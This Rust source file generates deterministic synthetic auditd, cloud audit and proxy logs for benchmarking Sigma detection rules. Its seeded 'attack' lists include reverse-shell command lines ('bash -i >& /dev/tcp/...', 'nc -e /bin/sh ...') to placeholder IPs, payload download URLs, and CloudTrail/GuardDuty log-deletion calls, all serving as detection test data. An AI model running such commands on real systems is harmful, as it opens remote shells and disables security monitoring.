//! Deterministic generator of a mixed-product event stream for benchmarks:
//! Linux auditd records, AWS CloudTrail, Azure sign-in and activity logs and
//! GCP Cloud Audit Logs (nested JSON, as the services export them), and web
//! proxy access logs, in the field naming SigmaHQ rules use for each.
//!
//! About 2% of the events carry activity SigmaHQ rules look for (CloudTrail
//! trails stopped, IAM policy changes, suspicious user agents and URLs,
//! reverse shells in auditd `EXECVE` records). The cloud records have shapes
//! logsource routing recognises; Linux and proxy events carry the tag a
//! collector adds (`source.product`/`source.service`/`source.category`),
//! which routing reads with
//! `--logsource-field-map product=source.product,service=source.service,category=source.category`.
//!
//! The same `(seed, count)` always yields the same events, and a shorter run
//! is a prefix of a longer one with the same seed.

use serde_json::{Value, json};

/// Generates `count` mixed events from `seed`.
pub fn generate(seed: u64, count: usize) -> Vec<Value> {
    let mut generator = Mixed {
        state: seed,
        sequence: 0,
    };
    (0..count).map(|_| generator.event()).collect()
}

/// 2024-05-14T08:00:00Z in seconds since the Unix epoch.
const START_S: u64 = 1_715_673_600;

const USERS: &[&str] = &["alice", "bob", "carol", "dave", "svc-backup", "erin"];
const HOSTS: &[&str] = &["web-01", "web-02", "db-01", "build-7", "bastion"];
const REGIONS: &[&str] = &["eu-west-1", "us-east-1", "ap-southeast-2"];
const AWS_CALLS: &[(&str, &str)] = &[
    ("s3.amazonaws.com", "GetObject"),
    ("s3.amazonaws.com", "PutObject"),
    ("ec2.amazonaws.com", "DescribeInstances"),
    ("sts.amazonaws.com", "AssumeRole"),
    ("iam.amazonaws.com", "ListRoles"),
    ("kms.amazonaws.com", "Decrypt"),
    ("lambda.amazonaws.com", "Invoke"),
];
const AWS_ATTACKS: &[(&str, &str)] = &[
    ("cloudtrail.amazonaws.com", "StopLogging"),
    ("cloudtrail.amazonaws.com", "DeleteTrail"),
    ("iam.amazonaws.com", "CreateAccessKey"),
    ("guardduty.amazonaws.com", "DeleteDetector"),
];
const AZURE_OPERATIONS: &[&str] = &[
    "MICROSOFT.COMPUTE/VIRTUALMACHINES/READ",
    "MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION",
    "MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/WRITE",
    "MICROSOFT.RESOURCES/DEPLOYMENTS/WRITE",
];
const AZURE_ATTACKS: &[&str] = &[
    "MICROSOFT.KUBERNETES/CONNECTEDCLUSTERS/DELETE",
    "MICROSOFT.NETWORK/FIREWALLPOLICIES/DELETE",
    "MICROSOFT.AUTHORIZATION/ELEVATEACCESS/ACTION",
];
const GCP_METHODS: &[&str] = &[
    "storage.objects.get",
    "compute.instances.list",
    "v1.compute.instances.start",
    "google.iam.admin.v1.ListServiceAccounts",
];
const GCP_ATTACKS: &[&str] = &[
    "SetIamPolicy",
    "google.logging.v2.ConfigServiceV2.DeleteSink",
    "v1.compute.firewalls.delete",
];
const URLS: &[&str] = &[
    "https://www.example.com/index.html",
    "https://cdn.example.net/static/app.js",
    "https://api.example.org/v2/items?page=3",
    "http://updates.example.com/check",
    "https://docs.example.com/guide/install",
];
const URL_ATTACKS: &[&str] = &[
    "http://198.51.100.7/payload.ps1",
    "http://files.example.biz/invoice.hta",
    "http://203.0.113.9/download/x.exe",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "curl/8.5.0",
];
const AGENT_ATTACKS: &[&str] = &[
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)",
    "sqlmap/1.7",
];
const COMMANDS: &[&[&str]] = &[
    &["systemctl", "status", "nginx"],
    &["ls", "-la", "/var/log"],
    &["python3", "/opt/app/manage.py", "migrate"],
    &["git", "pull", "--ff-only"],
    &["tar", "czf", "/backup/db.tgz", "/var/lib/db"],
];
const COMMAND_ATTACKS: &[&[&str]] = &[
    &["bash", "-i", ">&", "/dev/tcp/203.0.113.5/4444", "0>&1"],
    &["nc", "-e", "/bin/sh", "198.51.100.2", "9001"],
    &["chmod", "+x", "/tmp/.x"],
];

struct Mixed {
    state: u64,
    sequence: u64,
}

impl Mixed {
    /// SplitMix64.
    fn next(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        items[self.below(items.len())]
    }

    fn suspicious(&mut self) -> bool {
        self.below(50) == 0
    }

    fn time(&mut self) -> String {
        self.sequence += 1;
        let t = START_S + self.sequence / 5;
        let (h, m, s) = ((t / 3600) % 24, (t / 60) % 60, t % 60);
        format!("2024-05-14T{h:02}:{m:02}:{s:02}Z")
    }

    fn ip(&mut self) -> String {
        format!(
            "10.{}.{}.{}",
            self.below(4),
            self.below(250),
            1 + self.below(250)
        )
    }

    fn event(&mut self) -> Value {
        match self.below(100) {
            0..=29 => self.linux(),
            30..=49 => self.cloudtrail(),
            50..=59 => self.azure(),
            60..=69 => self.gcp(),
            _ => self.proxy(),
        }
    }

    fn linux(&mut self) -> Value {
        let args = if self.suspicious() {
            self.pick(COMMAND_ATTACKS)
        } else {
            self.pick(COMMANDS)
        };
        let mut event = json!({
            "type": "EXECVE",
            "timestamp": self.time(),
            "host": self.pick(HOSTS),
            "argc": args.len(),
            "uid": if self.below(3) == 0 { "0" } else { "1000" },
            "exe": format!("/usr/bin/{}", args[0]),
            "source": {"product": "linux", "service": "auditd"},
        });
        for (i, arg) in args.iter().enumerate() {
            event[format!("a{i}")] = json!(arg);
        }
        event
    }

    fn cloudtrail(&mut self) -> Value {
        let (source, name) = if self.suspicious() {
            self.pick(AWS_ATTACKS)
        } else {
            self.pick(AWS_CALLS)
        };
        let user = self.pick(USERS);
        json!({
            "eventVersion": "1.08",
            "eventTime": self.time(),
            "eventSource": source,
            "eventName": name,
            "awsRegion": self.pick(REGIONS),
            "sourceIPAddress": self.ip(),
            "userAgent": "aws-cli/2.15.0 Python/3.11.6",
            "userIdentity": {
                "type": "IAMUser",
                "principalId": format!("AIDA{:016X}", self.next() >> 8),
                "arn": format!("arn:aws:iam::123456789012:user/{user}"),
                "accountId": "123456789012",
                "userName": user,
            },
            "requestParameters": {"bucketName": "corp-data", "key": format!("reports/{}.csv", self.below(1000))},
            "responseElements": null,
            "eventType": "AwsApiCall",
            "recipientAccountId": "123456789012",
        })
    }

    fn azure(&mut self) -> Value {
        let user = self.pick(USERS);
        if self.below(2) == 0 {
            return json!({
                "time": self.time(),
                "resourceId": "/tenants/00000000-0000-0000-0000-000000000001/providers/Microsoft.aadiam",
                "operationName": "Sign-in activity",
                "category": "SignInLogs",
                "resultType": if self.suspicious() { "50126" } else { "0" },
                "callerIpAddress": self.ip(),
                "properties": {
                    "userPrincipalName": format!("{user}@corp.example.com"),
                    "appDisplayName": "Office 365 Exchange Online",
                    "clientAppUsed": "Browser",
                    "status": {"errorCode": 0},
                    "location": {"countryOrRegion": "DE", "city": "Berlin"},
                    "riskState": "none",
                },
            });
        }
        let operation = if self.suspicious() {
            self.pick(AZURE_ATTACKS)
        } else {
            self.pick(AZURE_OPERATIONS)
        };
        json!({
            "time": self.time(),
            "resourceId": "/SUBSCRIPTIONS/00000000-0000-0000-0000-000000000002/RESOURCEGROUPS/PROD",
            "operationName": operation,
            "category": "Administrative",
            "resultType": "Success",
            "callerIpAddress": self.ip(),
            "identity": {"claims": {"name": user}},
            "properties": {"statusCode": "OK", "eventCategory": "Administrative"},
        })
    }

    fn gcp(&mut self) -> Value {
        let method = if self.suspicious() {
            self.pick(GCP_ATTACKS)
        } else {
            self.pick(GCP_METHODS)
        };
        let user = self.pick(USERS);
        json!({
            "insertId": format!("{:x}", self.next()),
            "logName": "projects/corp-prod/logs/cloudaudit.googleapis.com%2Factivity",
            "timestamp": self.time(),
            "severity": "NOTICE",
            "protoPayload": {
                "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
                "serviceName": "compute.googleapis.com",
                "methodName": method,
                "resourceName": format!("projects/corp-prod/zones/europe-west1-b/instances/vm-{}", self.below(40)),
                "authenticationInfo": {"principalEmail": format!("{user}@corp.example.com")},
                "requestMetadata": {"callerIp": self.ip(), "callerSuppliedUserAgent": "google-cloud-sdk gcloud/470.0.0"},
            },
            "resource": {"type": "gce_instance", "labels": {"project_id": "corp-prod"}},
        })
    }

    fn proxy(&mut self) -> Value {
        let attack = self.suspicious();
        let uri = if attack {
            self.pick(URL_ATTACKS)
        } else {
            self.pick(URLS)
        };
        let agent = if attack && self.below(2) == 0 {
            self.pick(AGENT_ATTACKS)
        } else {
            self.pick(AGENTS)
        };
        let host = uri.split('/').nth(2).unwrap_or("example.com");
        json!({
            "date": self.time(),
            "c-ip": self.ip(),
            "cs-username": self.pick(USERS),
            "cs-method": if self.below(5) == 0 { "POST" } else { "GET" },
            "c-uri": uri,
            "cs-host": host,
            "cs-uri-extension": uri.rsplit('.').next().unwrap_or(""),
            "c-useragent": agent,
            "sc-status": if self.below(10) == 0 { 404 } else { 200 },
            "sc-bytes": 200 + self.below(50_000),
            "r-dns": host,
            "source": {"category": "proxy"},
        })
    }
}
